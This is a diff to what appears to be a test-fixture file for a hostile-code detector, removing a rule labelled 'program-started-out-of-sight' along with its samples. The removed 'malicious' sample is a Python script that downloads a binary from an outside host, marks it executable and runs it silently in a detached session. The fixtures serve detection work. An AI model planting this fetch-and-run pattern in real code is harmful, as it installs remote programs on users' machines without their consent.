@@ -55,21 +55,6 @@ export const savedPrograms: readonly RuleExamples[] = [
     ],
   },
   {
-    rule: "program-started-out-of-sight",
-    malicious: [
-      {
-        "scripts/notes.py":
-          'import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), "n")\nurllib.request.urlretrieve("https://dl.note-tools.dev/agent", p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p], stdout=subprocess.DEVNULL, start_new_session=True)\n',
-      },
-    ],
-    nearMiss: [
-      {
-        "scripts/notes.py":
-          'import subprocess, tempfile\nsubprocess.Popen(["notes-viewer", tempfile.gettempdir()], stdout=subprocess.DEVNULL, start_new_session=True)\n',
-      },
-    ],
-  },
-  {
     rule: "download-scheduled",
     malicious: [
       {
